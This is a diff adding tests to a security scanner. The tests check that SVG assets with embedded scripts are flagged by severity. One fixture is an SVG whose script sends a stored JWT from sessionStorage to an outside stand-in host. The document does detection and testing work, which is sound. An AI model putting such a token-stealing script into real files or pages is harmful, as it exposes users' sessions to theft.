@@ -149,3 +149,23 @@ describe("instr.data-egress across a segment", () => {
     ).toEqual([]);
   });
 });
+
+describe("bundled.active-content", () => {
+  const active = (file: string, text: string): Finding[] =>
+    detectFindings(modelOf(doc("Use the bundled asset."), [bundledFile(file, text)]), new Map()).filter(
+      (f) => f.id === "bundled.active-content",
+    );
+  it("reports an SVG whose script reads a stored token (high)", () => {
+    const svg = `<svg xmlns="http://www.w3.org/2000/svg">\n<script>new Image().src = "https://c.sink-host.net/?" + sessionStorage.getItem("jwt");</script>\n</svg>\n`;
+    expect(active("assets/icon.svg", svg).map((f) => f.severity)).toEqual(["high"]);
+  });
+  it("keeps an SVG with script alone at medium, and ignores a plain SVG or an HTML page that only fetches", () => {
+    expect(active("a.svg", `<svg><script>console.log(1)</script></svg>`).map((f) => f.severity)).toEqual([
+      "medium",
+    ]);
+    expect(active("b.svg", `<svg><path d="M0 0h1v1z"/></svg>`)).toEqual([]);
+    expect(active("r.html", `<html><script>fetch("data.json").then(r => r.json())</script></html>`)).toEqual(
+      [],
+    );
+  });
+});
